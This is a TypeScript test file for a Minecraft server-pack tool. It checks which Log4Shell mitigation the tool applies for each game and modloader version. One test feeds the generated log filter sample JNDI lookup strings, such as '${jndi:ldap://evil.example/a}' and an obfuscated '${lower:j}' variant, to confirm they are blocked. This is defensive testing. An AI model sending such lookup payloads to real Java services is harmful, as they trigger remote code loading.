import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { variables } from '../../src/archive/start-scripts/variables.ts';
import { log4ShellParts, log4ShellProtection } from '../../src/archive/warnings/log4shell.ts';
import type { ModloaderName } from '../../src/modloaders/modloader.ts';
import { modloaderServers } from '../../src/modloaders/servers/index.ts';
import { forgeRun } from '../support/server-pack.ts';

const page = readFileSync(new URL('../../docs/start-scripts.md', import.meta.url), 'utf8');

function run(gameVersion: string, modloader: ModloaderName = 'Fabric', modloaderVersion = '0.15.6') {
  return { ...forgeRun, gameVersion, modloader, modloaderVersion };
}

/** Rows of the page's table: the versions it names and the protection it promises. */
const rows = [...page.matchAll(/^\| (.*\d.*) \| .* \| ([A-Z]{5,}).* \|$/gm)].map(
  ([, versions = '', promised]) => ({ versions, promised }),
);

describe('protection from log4shell', () => {
  test('is told for every game version in docs/start-scripts.md', () => {
    expect(rows.map(({ versions }) => versions)).toEqual([
      'up to 1.6.4',
      '1.7 to 1.11.2',
      '1.12 to 1.16.5',
      '1.17 to 1.18',
      '1.18.1 and later',
    ]);
  });

  test.each(rows)('for $versions is $promised, as the page says', ({ versions, promised }) => {
    for (const version of versions.match(/\d[\d.]*\d/g) ?? [])
      expect(log4ShellProtection(run(version)), version).toBe(promised);
  });

  test.each([
    ['1.2.5', 'UNAFFECTED'],
    ['1.7.10', 'FILTER'],
    ['1.12-pre1', 'PATTERN'],
    ['1.14.4', 'PATTERN'],
    ['1.17.1', 'PROPERTY'],
    ['1.18-rc3', 'PROPERTY'],
    ['1.21', 'UNAFFECTED'],
    ['26.1', 'UNAFFECTED'],
    ['18w43b', 'PATTERN'],
    ['21w19a', 'PATTERN'],
    ['21w40a', 'PROPERTY'],
    ['22w03a', 'UNAFFECTED'],
    ['25w46a', 'UNAFFECTED'],
  ])('for %s is %s', (version, protection) => {
    expect(log4ShellProtection(run(version))).toBe(protection);
  });

  const mended = [...page.matchAll(/(\d+\.\d+\.[\d.]*\d) for\s+(1\.1[2-6]\.\d)/g)];

  test('is left to the releases of Forge that the page names', () => {
    expect(mended).toHaveLength(5);
    for (const [, version = '', gameVersion = ''] of mended) {
      expect(log4ShellProtection(run(gameVersion, 'Forge', version)), version).toBe('LOADER');
      const older = version.replace(/\d+$/, (last) => String(Number(last) - 1));
      expect(log4ShellProtection(run(gameVersion, 'Forge', older)), older).toBe('PATTERN');
      expect(log4ShellProtection(run(gameVersion, 'LegacyFabric', version)), version).toBe('PATTERN');
    }
  });

  test('is left to them by their numbers, not their letters', () => {
    expect(log4ShellProtection(run('1.15.2', 'Forge', '31.2.100'))).toBe('LOADER');
    expect(log4ShellProtection(run('1.15.2', 'Forge', '31.2.6'))).toBe('PATTERN');
  });

  test.each(['1.7.10', '1.8.9', '1.11.2'])('drops every message with a look-up in %s', (version) => {
    const { text = '' } = log4ShellParts(run(version)).file ?? {};
    const [, pattern = ''] = /RegexFilter regex="\(\?s\)([^"]*)" onMatch="DENY"/.exec(text) ?? [];
    const filter = new RegExp(`^${pattern}$`, 's');
    expect(filter.test('<joe> \u0024{jndi:ldap://evil.example/a}')).toBe(true);
    expect(filter.test('two\nlines \u0024{\u0024{lower:j}ndi')).toBe(true);
    expect(filter.test('<joe> it costs $5 {really}')).toBe(false);
    expect(text).not.toContain('nolookups');
  });

  test.each(['1.12.2', '1.16.5'])('writes no message with its look-ups in %s', (version) => {
    const { text = '' } = log4ShellParts(run(version)).file ?? {};
    expect(text.match(/%msg[^%"]*/g)).toEqual(['%msg{nolookups}', '%msg{nolookups}']);
  });

  test.each([
    ['1.16.5', '-Dlog4j2.formatMsgNoLookups=true -Dlog4j.configurationFile=log4j2-server.xml'],
    ['1.20.1', '-Dlog4j2.formatMsgNoLookups=true'],
  ])('of %s is in variables.txt', (version, args) => {
    const text = variables(run(version), modloaderServers.Fabric(version));
    expect(text).toContain(`\nADDITIONAL_ARGS=${args}\n`);
  });
});
